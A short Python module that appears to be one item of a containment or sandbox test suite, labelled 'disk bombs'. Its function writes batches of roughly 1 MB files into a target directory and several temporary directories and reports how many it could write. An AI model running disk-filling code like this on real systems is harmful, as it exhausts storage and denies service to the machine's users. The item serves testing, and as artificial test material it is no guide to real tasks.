"""Fills the disk with large files, and where it cannot, with many.

item: D disk bombs
harm: the disk of the machine is full
deserves: everything
witness: changed
control: unconfined
"""

import os


def attempt():
    written = 0
    for place in (TARGETS["drop"], ".", "/tmp", "/var/tmp"):
        for number in range(80):
            path = os.path.join(place, f"{TARGETS['process_name']}-{number}")
            try:
                with open(path, "wb") as file:
                    file.write(bytes(2**20 - 1))
            except OSError:
                break
            written += 1
            if place != TARGETS["drop"]:
                os.unlink(path)
                written -= 1
    return written
